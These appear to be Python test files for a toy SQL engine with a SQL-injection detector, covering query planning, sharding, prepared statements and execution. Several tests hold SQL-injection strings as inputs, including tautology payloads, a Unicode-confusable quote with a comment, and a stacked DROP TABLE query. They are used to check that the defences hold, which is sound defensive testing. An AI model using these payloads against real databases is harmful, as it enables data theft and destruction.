        assert scans[0]["rows_out"] <= 4 * 5, (
            "LIMIT 5 pulled %d rows through the scan — streaming "
            "early-exit is broken" % scans[0]["rows_out"])

    def test_limit_with_filter_still_streams(self, big):
        got = rows(big, "SELECT id FROM events WHERE val >= 0 LIMIT 10")
        assert len(got) == 10
        scans = big._executor.last_stage_stats.find("seq_scan")
        assert scans[0]["rows_out"] <= 4 * 10

    def test_full_scan_still_reads_everything(self, big):
        got = rows(big, "SELECT COUNT(*) FROM events")
        assert got == [(500,)]
        scans = big._executor.last_stage_stats.find("seq_scan")
        assert scans[0]["rows_out"] == 500

    def test_peak_materialized_is_bounded_by_limit(self, big):
        rows(big, "SELECT id FROM events LIMIT 5")
        stats = big._executor.last_stage_stats
        # Limit-only pipelines buffer nothing but the result set itself
        assert stats.peak_materialized_rows <= 4 * 5

    def test_full_sort_materializes_the_table(self, big):
        big._executor.enable_topk = False
        rows(big, "SELECT id FROM events ORDER BY val LIMIT 5")
        stats = big._executor.last_stage_stats
        assert stats.peak_materialized_rows >= 500

    def test_topk_keeps_materialization_at_k(self, big):
        rows(big, "SELECT id FROM events ORDER BY val LIMIT 5")
        stats = big._executor.last_stage_stats
        assert stats.peak_materialized_rows <= 4 * 5

    def test_peak_rolls_up_into_plan_stats(self, big):
        big._executor.plan_stats["peak_materialized_rows"] = 0
        rows(big, "SELECT id FROM events ORDER BY val LIMIT 5")
        assert big._executor.plan_stats["peak_materialized_rows"] >= 1


class TestStageInstrumentation(object):
    def test_rows_in_matches_children_rows_out(self, shop):
        rows(shop, "SELECT name FROM products WHERE category = 'fruit'")
        stats = shop._executor.last_stage_stats
        project = stats.find("project")[0]
        filt = stats.find("filter")[0]
        assert project["rows_in"] == filt["rows_out"] == 2
        assert filt["rows_in"] == 2  # index already narrowed the scan

    def test_timings_render_one_line_per_operator(self, shop):
        rows(shop, "SELECT name FROM products LIMIT 1")
        text = shop._executor.last_stage_stats.render_timings()
        assert "SeqScan(products)" in text
        assert "Limit" in text
        assert "t=" in text

    def test_stage_timing_events_are_opt_in(self, shop):
        from repro.core.logger import EventKind, SepticLogger
        from repro.core.septic import Mode, Septic
        logger = SepticLogger(verbose=True)
        database = Database(septic=Septic(mode=Mode.TRAINING, logger=logger))
        database.seed("CREATE TABLE t (id INT PRIMARY KEY, v INT);"
                      "INSERT INTO t VALUES (1, 10), (2, 20);")
        rows(database, "SELECT v FROM t")
        assert not logger.by_kind(EventKind.STAGE_TIMING)
        database.log_stage_timings = True
        rows(database, "SELECT v FROM t WHERE id = 1")
        events = logger.by_kind(EventKind.STAGE_TIMING)
        assert events
        assert "IndexEqScan" in events[-1].detail


def test_executor_owns_no_planning_decisions():
    """Acceptance pin: access-path and join-strategy choices live in
    planner.py only — the executor must not regrow them."""
    here = os.path.dirname(os.path.abspath(__file__))
    executor_py = os.path.join(
        here, "..", "..", "src", "repro", "sqldb", "executor.py")
    with open(executor_py) as handle:
        source = handle.read()
    for marker in ("_access_plan", "_equi_join_keys", "_range_bounds",
                   "index_lookup", "_join_side"):
        assert marker not in source, (
            "executor.py mentions %r — planning logic belongs in "
            "planner.py" % marker)


class TestDistributedPlans(object):
    """Golden trees for the scatter/gather planning pass: which gather
    shape each cross-shard SELECT gets, and which statements route to a
    single shard or are rejected at plan time."""

    @pytest.fixture
    def dplanner(self):
        from repro.shard.catalog import ShardCatalog
        from repro.sqldb.planner import DistributedPlanner
        catalog = ShardCatalog(2)
        catalog.declare("tickets", "reservID",
                        ["reservID", "creditCard", "price"])
        return DistributedPlanner(2, catalog)

    def route(self, dplanner, sql):
        return dplanner.route(parse_one(sql), sql)

    def test_shard_key_equality_routes_single(self, dplanner):
        route = self.route(
            dplanner, "SELECT creditCard FROM tickets "
                      "WHERE reservID = 'ID34FG'")
        assert route.kind == "single"
        assert route.key_values == ("ID34FG",)
        # single-shard routing forwards the ORIGINAL text: the target
        # shard's pipeline cache stays warm
        assert route.sql == ("SELECT creditCard FROM tickets "
                             "WHERE reservID = 'ID34FG'")
        assert route.plan is None

    def test_scatter_select_gathers_with_union(self, dplanner):
        route = self.route(dplanner,
                           "SELECT reservID, creditCard FROM tickets")
        assert route.kind == "scatter"
        assert plan_mod.render_tree(route.plan) == (
            "Gather(union, 2 shards)\n"
            "  ShardScan(shard=0: SELECT reservID, creditCard "
            "FROM tickets)\n"
            "  ShardScan(shard=1: SELECT reservID, creditCard "
            "FROM tickets)"
        )

    def test_aggregates_rewrite_to_partial_final(self, dplanner):
        route = self.route(dplanner,
                           "SELECT COUNT(*), SUM(price) FROM tickets")
        assert route.kind == "scatter"
        assert plan_mod.render_tree(route.plan) == (
            "Gather(partial-agg: count->sum, sum)\n"
            "  ShardScan(shard=0: SELECT COUNT(*), SUM(price) "
            "FROM tickets)\n"
            "  ShardScan(shard=1: SELECT COUNT(*), SUM(price) "
            "FROM tickets)"
        )

    def test_avg_decomposes_to_sum_and_count(self, dplanner):
        route = self.route(dplanner, "SELECT AVG(price) FROM tickets")
        tree_text = plan_mod.render_tree(route.plan)
        assert "Gather(partial-agg: avg->sum/count)" in tree_text
        # each shard ships SUM and COUNT partials, never a local AVG
        assert "SELECT SUM(price), COUNT(price) FROM tickets" in tree_text

    def test_order_by_limit_merges_with_topk(self, dplanner):
        route = self.route(
            dplanner, "SELECT reservID, price FROM tickets "
                      "ORDER BY price DESC LIMIT 3")
        assert route.kind == "scatter"
        assert plan_mod.render_tree(route.plan) == (
            "Gather(merge-topk, k=3)\n"
            "  ShardScan(shard=0: SELECT reservID, price FROM tickets "
            "ORDER BY price DESC LIMIT 3)\n"
            "  ShardScan(shard=1: SELECT reservID, price FROM tickets "
            "ORDER BY price DESC LIMIT 3)"
        )

    def test_ddl_broadcasts(self, dplanner):
        route = self.route(dplanner,
                           "CREATE TABLE t (k INT PRIMARY KEY)")
        assert route.kind == "broadcast"

    def test_multi_shard_dml_is_rejected_at_plan_time(self, dplanner):
        from repro.sqldb.errors import ExecutionError
        with pytest.raises(ExecutionError) as err:
            self.route(dplanner, "UPDATE tickets SET price = 0")
        assert err.value.errno == 1235
        with pytest.raises(ExecutionError) as err:
            self.route(dplanner,
                       "DELETE FROM tickets WHERE price > 100")
        assert err.value.errno == 1235
