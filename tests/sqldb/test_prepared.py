"""Tests for prepared statements and their SEPTIC interplay."""

import pytest

from repro.core.septic import Mode, Septic
from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database
from repro.sqldb.errors import SQLError
from repro.sqldb.prepared import bind_params, count_params, literal_for
from repro.sqldb.parser import parse_one
from repro.sqldb import ast_nodes as ast
from tests.conftest import TICKETS_SCHEMA


class TestBinding(object):
    def test_count_params(self):
        stmt = parse_one("SELECT * FROM t WHERE a = ? AND b = ?")
        assert count_params(stmt) == 2

    def test_bind_in_order(self):
        stmt = parse_one("SELECT * FROM t WHERE a = ? AND b = ?")
        bound = bind_params(stmt, ["x", 5])
        assert bound.where.operands[0].right == ast.Literal("x", "string")
        assert bound.where.operands[1].right == ast.Literal(5, "int")

    def test_bind_does_not_mutate_original(self):
        stmt = parse_one("SELECT * FROM t WHERE a = ?")
        bind_params(stmt, [1])
        assert count_params(stmt) == 1

    def test_bind_in_insert_values(self):
        stmt = parse_one("INSERT INTO t (a, b) VALUES (?, ?)")
        bound = bind_params(stmt, [1, "x"])
        assert bound.rows[0][0] == ast.Literal(1, "int")

    def test_bind_in_update_assignment(self):
        stmt = parse_one("UPDATE t SET a = ? WHERE b = ?")
        bound = bind_params(stmt, ["v", 2])
        col, expr = bound.assignments[0]
        assert expr == ast.Literal("v", "string")

    def test_bind_in_limit(self):
        stmt = parse_one("SELECT * FROM t LIMIT ?")
        bound = bind_params(stmt, [3])
        assert bound.limit.count == ast.Literal(3, "int")

    def test_param_count_mismatch(self):
        stmt = parse_one("SELECT * FROM t WHERE a = ?")
        with pytest.raises(SQLError):
            bind_params(stmt, [1, 2])
        with pytest.raises(SQLError):
            bind_params(stmt, [])

    def test_literal_types(self):
        assert literal_for(None).type_tag == "null"
        assert literal_for(True).type_tag == "bool"
        assert literal_for(3).type_tag == "int"
        assert literal_for(2.5).type_tag == "float"
        assert literal_for("s").type_tag == "string"
        with pytest.raises(SQLError):
            literal_for(object())


class TestExecution(object):
    def test_prepare_and_execute(self, db, conn):
        ps = conn.prepare(
            "SELECT reservID FROM tickets WHERE creditCard = ?"
        )
        assert ps.param_count == 1
        outcome = conn.execute_prepared(ps, 1234)
        assert outcome.rows == [("ID34FG",)]

    def test_reuse_with_different_params(self, conn):
        ps = conn.prepare(
            "SELECT reservID FROM tickets WHERE creditCard = ?"
        )
        assert conn.execute_prepared(ps, 1234).rows == [("ID34FG",)]
        assert conn.execute_prepared(ps, 9999).rows == [("ZZ11AA",)]

    def test_prepared_insert(self, db, conn):
        ps = conn.prepare(
            "INSERT INTO tickets (reservID, creditCard) VALUES (?, ?)"
        )
        outcome = conn.execute_prepared(ps, "NEW001", 42)
        assert outcome.affected_rows == 1
        assert len(db.table("tickets")) == 4

    def test_params_as_sequence(self, conn):
        ps = conn.prepare(
            "SELECT COUNT(*) FROM tickets WHERE creditCard > ?"
        )
        assert ps.execute([2000]).result_set.scalar() == 2

    def test_multi_statement_prepare_rejected(self, conn):
        with pytest.raises(SQLError):
            conn.prepare("SELECT 1; SELECT 2")

    def test_unbound_param_cannot_execute_directly(self, conn):
        outcome = conn.query("SELECT * FROM tickets WHERE id = ?")
        assert not outcome.ok


class TestInjectionImmunity(object):
    def test_quote_in_parameter_is_data(self, conn):
        ps = conn.prepare(
            "SELECT COUNT(*) FROM tickets WHERE reservID = ?"
        )
        outcome = conn.execute_prepared(ps, "x' OR '1'='1")
        assert outcome.result_set.scalar() == 0  # matched nothing, no dump

    def test_unicode_confusable_in_parameter_stays_verbatim(self, db,
                                                            conn):
        """Binary-protocol binding: the decoder never sees parameters, so
        U+02BC remains data — the channel that beats escaping does not
        exist here."""
        ps = conn.prepare(
            "INSERT INTO tickets (reservID, creditCard) VALUES (?, ?)"
        )
        conn.execute_prepared(ps, "IDʼ-- ", 1)
        stored = db.table("tickets").rows[-1]["reservid"]
        assert stored == "IDʼ-- "  # the prime survived, unfolded

    def test_numeric_context_payload_is_coerced_not_executed(self, conn):
        ps = conn.prepare(
            "SELECT COUNT(*) FROM tickets WHERE creditCard = ?"
        )
        outcome = conn.execute_prepared(ps, "0 OR 1=1")
        # the string is DATA compared against an INT column: coerces to 0
        assert outcome.result_set.scalar() == 0


class TestSepticInterplay(object):
    def test_literal_training_covers_prepared_execution(self):
        """A model learned from a literal query matches the prepared
        execution of the same statement (same stack shape)."""
        septic = Septic(mode=Mode.TRAINING)
        database = Database(septic=septic)
        database.seed(TICKETS_SCHEMA)
        conn = Connection(database)
        conn.query("/* septic:s:1 */ SELECT * FROM tickets "
                   "WHERE reservID = 'a' AND creditCard = 1")
        septic.mode = Mode.PREVENTION
        ps = conn.prepare("/* septic:s:1 */ SELECT * FROM tickets "
                          "WHERE reservID = ? AND creditCard = ?")
        outcome = conn.execute_prepared(ps, "ID34FG", 1234)
        assert outcome.ok
        assert outcome.rows == [(1, "ID34FG", 1234)]
        assert septic.stats.attacks_detected == 0

    def test_prepared_training_covers_literal_queries(self):
        septic = Septic(mode=Mode.TRAINING)
        database = Database(septic=septic)
        database.seed(TICKETS_SCHEMA)
        conn = Connection(database)
        ps = conn.prepare("/* septic:s:2 */ SELECT * FROM tickets "
                          "WHERE reservID = ? AND creditCard = ?")
        conn.execute_prepared(ps, "a", 1)
        septic.mode = Mode.PREVENTION
        outcome = conn.query(
            "/* septic:s:2 */ SELECT * FROM tickets "
            "WHERE reservID = 'b' AND creditCard = 2"
        )
        assert outcome.ok

    def test_attack_through_literal_still_blocked(self):
        septic = Septic(mode=Mode.TRAINING)
        database = Database(septic=septic)
        database.seed(TICKETS_SCHEMA)
        conn = Connection(database)
        ps = conn.prepare("/* septic:s:3 */ SELECT * FROM tickets "
                          "WHERE reservID = ? AND creditCard = ?")
        conn.execute_prepared(ps, "a", 1)
        septic.mode = Mode.PREVENTION
        outcome = conn.query(
            "/* septic:s:3 */ SELECT * FROM tickets "
            "WHERE reservID = 'b' AND 1=1-- ' AND creditCard = 2"
        )
        assert not outcome.ok  # mimicry against the prepared-learned model


class TestExecutionCacheReuse(object):
    """PR-9 regression: server-side prepared executions ride the
    pipeline cache keyed by ``(statement id, bound values)`` — repeat
    binds of the same values skip parse, validation and planning
    entirely, and the plan is never shared across value sets (access
    paths bake bound constants)."""

    def _db_conn(self):
        database = Database()
        database.seed(TICKETS_SCHEMA)
        connection = Connection(database)
        return database, connection

    def test_repeat_binds_hit_the_cache(self):
        database, conn = self._db_conn()
        prepared = conn.prepare(
            "SELECT reservID FROM tickets WHERE creditCard = ?"
        )
        cache = database.pipeline_cache
        misses_before, hits_before = cache.misses, cache.hits
        first = prepared.execute(1234)
        assert [tuple(r) for r in first.result_set.rows] == [("ID34FG",)]
        assert cache.misses == misses_before + 1
        for _ in range(3):
            again = prepared.execute(1234)
            assert [tuple(r) for r in again.result_set.rows] == \
                [("ID34FG",)]
        assert cache.hits == hits_before + 3

    def test_no_reparse_after_prepare(self, monkeypatch):
        database, conn = self._db_conn()
        prepared = conn.prepare(
            "SELECT reservID FROM tickets WHERE creditCard = ?"
        )

        def boom(*_args, **_kwargs):
            raise AssertionError("execution re-entered the parser")

        monkeypatch.setattr("repro.sqldb.parser.parse_sql", boom)
        # both the cold (miss) and hot (hit) paths stay parse-free
        assert prepared.execute(1234).result_set.rows
        assert prepared.execute(1234).result_set.rows
        assert prepared.execute(9999).result_set.rows

    def test_no_revalidation_on_a_hit(self, monkeypatch):
        database, conn = self._db_conn()
        prepared = conn.prepare(
            "SELECT reservID FROM tickets WHERE creditCard = ?"
        )
        prepared.execute(1234)  # populates the entry's stack

        def boom(*_args, **_kwargs):
            raise AssertionError("cache hit re-entered the validator")

        monkeypatch.setattr("repro.sqldb.engine.validate", boom)
        assert prepared.execute(1234).result_set.rows == \
            [prepared.execute(1234).result_set.rows[0]]

    def test_value_sets_never_share_an_entry(self):
        database, conn = self._db_conn()
        prepared = conn.prepare(
            "SELECT reservID FROM tickets WHERE creditCard = ?"
        )
        cache = database.pipeline_cache
        misses_before = cache.misses
        a = prepared.execute(1234)
        b = prepared.execute(9999)
        assert [tuple(r) for r in a.result_set.rows] == [("ID34FG",)]
        assert [tuple(r) for r in b.result_set.rows] == [("ZZ11AA",)]
        # two value sets -> two entries (plans bake their constants)
        assert cache.misses == misses_before + 2

    def test_equal_values_of_different_types_do_not_alias(self):
        database, conn = self._db_conn()
        prepared = conn.prepare(
            "SELECT reservID FROM tickets WHERE creditCard = ?"
        )
        cache = database.pipeline_cache
        prepared.execute(1234)
        misses_before = cache.misses
        # True == 1 and hash(True) == hash(1); the typed key keeps
        # 1234.0 from riding 1234's cached bound statement
        prepared.execute(1234.0)
        assert cache.misses == misses_before + 1

    def test_two_prepares_of_the_same_text_do_not_share(self):
        database, conn = self._db_conn()
        first = conn.prepare("SELECT reservID FROM tickets WHERE id = ?")
        second = conn.prepare("SELECT reservID FROM tickets WHERE id = ?")
        assert first.statement_id != second.statement_id
        a = first.execute(1)
        b = second.execute(2)
        assert [tuple(r) for r in a.result_set.rows] == [("ID34FG",)]
        assert [tuple(r) for r in b.result_set.rows] == [("ZZ11AA",)]

    def test_wrong_param_count_still_raises_after_caching(self):
        _database, conn = self._db_conn()
        prepared = conn.prepare(
            "SELECT reservID FROM tickets WHERE creditCard = ?"
        )
        prepared.execute(1234)
        with pytest.raises(SQLError) as excinfo:
            prepared.execute(1234, 5678)
        assert excinfo.value.errno == 2031

    def test_ddl_invalidates_cached_executions(self):
        database, conn = self._db_conn()
        prepared = conn.prepare(
            "SELECT reservID FROM tickets WHERE creditCard = ?"
        )
        prepared.execute(1234)
        database.run("CREATE TABLE other (id INT PRIMARY KEY)")
        cache = database.pipeline_cache
        misses_before = cache.misses
        # schema_version moved: the old entry must not match, and the
        # re-validated execution still returns the right row
        outcome = prepared.execute(1234)
        assert [tuple(r) for r in outcome.result_set.rows] == [("ID34FG",)]
        assert cache.misses == misses_before + 1
