"""Tests for statement execution."""

import pytest

from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database
from repro.sqldb.errors import ExecutionError, SQLError


@pytest.fixture
def shop():
    """A two-table database with known contents."""
    database = Database()
    database.seed(
        """
        CREATE TABLE products (
            id INT PRIMARY KEY AUTO_INCREMENT,
            name VARCHAR(40) NOT NULL,
            price FLOAT,
            category VARCHAR(20)
        );
        CREATE TABLE orders (
            id INT PRIMARY KEY AUTO_INCREMENT,
            product_id INT,
            quantity INT
        );
        INSERT INTO products (name, price, category) VALUES
            ('apple', 1.0, 'fruit'),
            ('banana', 0.5, 'fruit'),
            ('carrot', 0.3, 'veg'),
            ('donut', 2.0, NULL);
        INSERT INTO orders (product_id, quantity) VALUES
            (1, 3), (1, 2), (2, 10), (99, 1);
        """
    )
    return database


@pytest.fixture
def shop_conn(shop):
    return Connection(shop)


def rows(conn, sql):
    outcome = conn.query(sql)
    if not outcome.ok:
        raise outcome.error
    return outcome.result_set.rows


class TestSelect(object):
    def test_select_star_columns(self, shop_conn):
        outcome = shop_conn.query("SELECT * FROM products")
        assert outcome.result_set.columns == \
            ["id", "name", "price", "category"]
        assert len(outcome.rows) == 4

    def test_where_filter(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT name FROM products WHERE category = 'fruit'")
        assert got == [("apple",), ("banana",)]

    def test_where_null_excluded(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT name FROM products WHERE category != 'fruit'")
        assert got == [("carrot",)]  # NULL category row not matched

    def test_is_null(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT name FROM products WHERE category IS NULL")
        assert got == [("donut",)]

    def test_projection_expressions(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT name, price * 2 AS double_price FROM products "
                   "WHERE id = 1")
        assert got == [("apple", 2.0)]

    def test_order_by_column(self, shop_conn):
        got = rows(shop_conn, "SELECT name FROM products ORDER BY price")
        assert got[0] == ("carrot",)
        assert got[-1] == ("donut",)

    def test_order_by_desc(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT name FROM products ORDER BY price DESC")
        assert got[0] == ("donut",)

    def test_order_by_position(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT name, price FROM products ORDER BY 2")
        assert got[0][0] == "carrot"

    def test_order_by_alias(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT name, price * 10 AS deci FROM products "
                   "ORDER BY deci DESC")
        assert got[0][0] == "donut"

    def test_order_by_bad_position(self, shop_conn):
        with pytest.raises(SQLError):
            rows(shop_conn, "SELECT name FROM products ORDER BY 9")

    def test_multi_key_order(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT category, name FROM products "
                   "ORDER BY category DESC, name DESC")
        assert got[0] == ("veg", "carrot")

    def test_limit_offset(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT name FROM products ORDER BY id LIMIT 1, 2")
        assert got == [("banana",), ("carrot",)]

    def test_limit_zero(self, shop_conn):
        assert rows(shop_conn, "SELECT name FROM products LIMIT 0") == []

    def test_distinct(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT DISTINCT category FROM products "
                   "WHERE category IS NOT NULL")
        assert sorted(got) == [("fruit",), ("veg",)]

    def test_select_no_from(self, shop_conn):
        assert rows(shop_conn, "SELECT 40 + 2") == [(42,)]

    def test_like_filter(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT name FROM products WHERE name LIKE '%an%'")
        assert got == [("banana",)]

    def test_unknown_column_in_where(self, shop_conn):
        outcome = shop_conn.query("SELECT * FROM products WHERE nope = 1")
        assert not outcome.ok

    def test_unknown_table(self, shop_conn):
        outcome = shop_conn.query("SELECT * FROM nope")
        assert not outcome.ok


class TestAggregates(object):
    def test_count_star(self, shop_conn):
        assert rows(shop_conn, "SELECT COUNT(*) FROM products") == [(4,)]

    def test_count_column_skips_null(self, shop_conn):
        assert rows(shop_conn,
                    "SELECT COUNT(category) FROM products") == [(3,)]

    def test_count_distinct(self, shop_conn):
        assert rows(shop_conn,
                    "SELECT COUNT(DISTINCT category) FROM products") == [(2,)]

    def test_sum_avg_min_max(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT SUM(price), AVG(price), MIN(price), MAX(price) "
                   "FROM products")[0]
        assert got == (3.8, 0.95, 0.3, 2.0)

    def test_aggregate_on_empty_set(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT COUNT(*), SUM(price) FROM products "
                   "WHERE id > 100")[0]
        assert got == (0, None)

    def test_group_by(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT category, COUNT(*) FROM products "
                   "WHERE category IS NOT NULL "
                   "GROUP BY category ORDER BY category")
        assert got == [("fruit", 2), ("veg", 1)]

    def test_group_by_having(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT category, COUNT(*) FROM products "
                   "GROUP BY category HAVING COUNT(*) > 1")
        assert got == [("fruit", 2)]

    def test_group_concat(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT GROUP_CONCAT(name) FROM products "
                   "WHERE category = 'fruit'")
        assert got == [("apple,banana",)]

    def test_aggregate_in_expression(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT MAX(price) - MIN(price) FROM products")
        assert got == [(1.7,)]


class TestJoins(object):
    def test_inner_join(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT p.name, o.quantity FROM orders o "
                   "JOIN products p ON o.product_id = p.id "
                   "ORDER BY o.id")
        assert got == [("apple", 3), ("apple", 2), ("banana", 10)]

    def test_left_join_null_fill(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT o.id, p.name FROM orders o "
                   "LEFT JOIN products p ON o.product_id = p.id "
                   "ORDER BY o.id")
        assert got[-1] == (4, None)

    def test_right_join(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT p.name, o.quantity FROM orders o "
                   "RIGHT JOIN products p ON o.product_id = p.id "
                   "ORDER BY p.id")
        names = [row[0] for row in got]
        assert "carrot" in names and "donut" in names

    def test_cross_join_cardinality(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT COUNT(*) FROM products CROSS JOIN orders")
        assert got == [(16,)]

    def test_comma_join_with_where(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT p.name FROM products p, orders o "
                   "WHERE p.id = o.product_id AND o.quantity = 10")
        assert got == [("banana",)]

    def test_self_join_with_aliases(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT a.name, b.name FROM products a "
                   "JOIN products b ON a.price < b.price "
                   "WHERE b.name = 'donut' ORDER BY a.id")
        assert [row[0] for row in got] == ["apple", "banana", "carrot"]


class TestSubqueries(object):
    def test_scalar_subquery(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT name FROM products "
                   "WHERE price = (SELECT MAX(price) FROM products)")
        assert got == [("donut",)]

    def test_in_subquery(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT name FROM products WHERE id IN "
                   "(SELECT product_id FROM orders) ORDER BY id")
        assert got == [("apple",), ("banana",)]

    def test_exists_correlated(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT name FROM products p WHERE EXISTS "
                   "(SELECT 1 FROM orders o WHERE o.product_id = p.id "
                   "AND o.quantity > 5)")
        assert got == [("banana",)]

    def test_not_exists(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT COUNT(*) FROM products p WHERE NOT EXISTS "
                   "(SELECT 1 FROM orders o WHERE o.product_id = p.id)")
        assert got == [(2,)]

    def test_scalar_subquery_multiple_rows_error(self, shop_conn):
        outcome = shop_conn.query(
            "SELECT (SELECT id FROM products) FROM products"
        )
        assert not outcome.ok
        assert outcome.error.errno == 1242

    def test_subquery_in_insert_values(self, shop_conn):
        outcome = shop_conn.query(
            "INSERT INTO orders (product_id, quantity) "
            "VALUES ((SELECT id FROM products WHERE name = 'carrot'), 7)"
        )
        assert outcome.ok
        got = rows(shop_conn,
                   "SELECT quantity FROM orders WHERE product_id = 3")
        assert got == [(7,)]


class TestUnion(object):
    def test_union_dedupes(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT category FROM products WHERE category='fruit' "
                   "UNION SELECT category FROM products "
                   "WHERE category='fruit'")
        assert got == [("fruit",)]

    def test_union_all_keeps_duplicates(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT category FROM products WHERE category='fruit' "
                   "UNION ALL SELECT category FROM products "
                   "WHERE category='fruit'")
        assert len(got) == 4

    def test_union_column_count_mismatch(self, shop_conn):
        outcome = shop_conn.query(
            "SELECT id FROM products UNION SELECT id, name FROM products"
        )
        assert not outcome.ok
        assert outcome.error.errno == 1222

    def test_union_order_by_applies_to_whole(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT name FROM products WHERE id = 1 "
                   "UNION SELECT name FROM products WHERE id = 4 "
                   "ORDER BY 1 DESC")
        assert got == [("donut",), ("apple",)]

    def test_union_limit(self, shop_conn):
        got = rows(shop_conn,
                   "SELECT name FROM products UNION ALL "
                   "SELECT name FROM products LIMIT 3")
        assert len(got) == 3


class TestInsert(object):
    def test_insert_returns_affected(self, shop_conn):
        outcome = shop_conn.query(
            "INSERT INTO products (name, price) VALUES ('egg', 0.2)"
        )
        assert outcome.affected_rows == 1

    def test_auto_increment(self, shop_conn):
        shop_conn.query("INSERT INTO products (name) VALUES ('x')")
        assert shop_conn.last_insert_id == 5
        shop_conn.query("INSERT INTO products (name) VALUES ('y')")
        assert shop_conn.last_insert_id == 6

    def test_multi_row(self, shop_conn):
        outcome = shop_conn.query(
            "INSERT INTO orders (product_id, quantity) VALUES (1,1), (2,2)"
        )
        assert outcome.affected_rows == 2

    def test_insert_set_form(self, shop_conn):
        outcome = shop_conn.query(
            "INSERT INTO products SET name = 'fig', price = 3.0"
        )
        assert outcome.ok

    def test_not_null_default(self, shop):
        table = shop.table("products")
        table.insert({"price": 1.0})
        assert table.rows[-1]["name"] == ""  # NOT NULL text defaults to ''

    def test_duplicate_primary_key(self, shop_conn):
        outcome = shop_conn.query(
            "INSERT INTO products (id, name) VALUES (1, 'dup')"
        )
        assert not outcome.ok
        assert outcome.error.errno == 1062

    def test_insert_ignore_skips_duplicates(self, shop_conn):
        outcome = shop_conn.query(
            "INSERT IGNORE INTO products (id, name) VALUES (1, 'dup'), "
            "(50, 'ok')"
        )
        assert outcome.ok
        assert outcome.affected_rows == 1

    def test_column_count_mismatch(self, shop_conn):
        outcome = shop_conn.query(
            "INSERT INTO products (name) VALUES ('a', 1)"
        )
        assert not outcome.ok

    def test_varchar_truncation_on_insert(self, shop_conn):
        shop_conn.query(
            "INSERT INTO products (name) VALUES ('%s')" % ("x" * 60,)
        )
        got = rows(shop_conn,
                   "SELECT name FROM products ORDER BY id DESC LIMIT 1")
        assert got == [("x" * 40,)]


class TestUpdateDelete(object):
    def test_update_count_changed_only(self, shop_conn):
        outcome = shop_conn.query(
            "UPDATE products SET category = 'fruit' "
            "WHERE category = 'fruit'"
        )
        assert outcome.affected_rows == 0  # values unchanged

    def test_update_with_expression(self, shop_conn):
        shop_conn.query("UPDATE products SET price = price * 2 WHERE id = 1")
        assert rows(shop_conn,
                    "SELECT price FROM products WHERE id = 1") == [(2.0,)]

    def test_update_all_rows(self, shop_conn):
        outcome = shop_conn.query("UPDATE orders SET quantity = 1")
        assert outcome.affected_rows == 3  # one row already has quantity 1

    def test_update_limit(self, shop_conn):
        outcome = shop_conn.query(
            "UPDATE products SET price = 9.9 LIMIT 2"
        )
        assert outcome.affected_rows == 2

    def test_update_unknown_column(self, shop_conn):
        outcome = shop_conn.query("UPDATE products SET nope = 1")
        assert not outcome.ok

    def test_delete_where(self, shop_conn):
        outcome = shop_conn.query("DELETE FROM orders WHERE quantity > 5")
        assert outcome.affected_rows == 1
        assert rows(shop_conn, "SELECT COUNT(*) FROM orders") == [(3,)]

    def test_delete_all(self, shop_conn):
        outcome = shop_conn.query("DELETE FROM orders")
        assert outcome.affected_rows == 4

    def test_delete_limit(self, shop_conn):
        outcome = shop_conn.query("DELETE FROM orders LIMIT 2")
        assert outcome.affected_rows == 2
        assert rows(shop_conn, "SELECT COUNT(*) FROM orders") == [(2,)]


class TestDdlAndMeta(object):
    def test_create_and_use(self, shop_conn):
        shop_conn.query("CREATE TABLE notes (id INT, body TEXT)")
        assert shop_conn.query("INSERT INTO notes VALUES (1, 'x')").ok

    def test_create_duplicate(self, shop_conn):
        outcome = shop_conn.query("CREATE TABLE products (id INT)")
        assert not outcome.ok and outcome.error.errno == 1050

    def test_create_if_not_exists(self, shop_conn):
        assert shop_conn.query(
            "CREATE TABLE IF NOT EXISTS products (id INT)"
        ).ok

    def test_drop(self, shop_conn):
        assert shop_conn.query("DROP TABLE orders").ok
        assert not shop_conn.query("SELECT * FROM orders").ok

    def test_drop_missing(self, shop_conn):
        outcome = shop_conn.query("DROP TABLE nope")
        assert not outcome.ok and outcome.error.errno == 1051
        assert shop_conn.query("DROP TABLE IF EXISTS nope").ok

    def test_show_tables(self, shop_conn):
        got = rows(shop_conn, "SHOW TABLES")
        assert ("orders",) in got and ("products",) in got

    def test_describe(self, shop_conn):
        got = rows(shop_conn, "DESCRIBE products")
        assert got[0][0] == "id"
        assert got[0][3] == "PRI"
        assert got[0][5] == "auto_increment"
        assert got[1][1] == "varchar(40)"


class TestEngineBehaviour(object):
    def test_multi_statement_rejected_by_default(self, shop_conn):
        outcome = shop_conn.query("SELECT 1; DROP TABLE products")
        assert not outcome.ok
        assert "products" in shop_conn.database.tables

    def test_multi_query_optin(self, shop):
        conn = Connection(shop, multi_statements=True)
        outcomes = conn.multi_query("SELECT 1; SELECT 2")
        assert [o.result_set.scalar() for o in outcomes] == [1, 2]

    def test_query_or_raise(self, shop_conn):
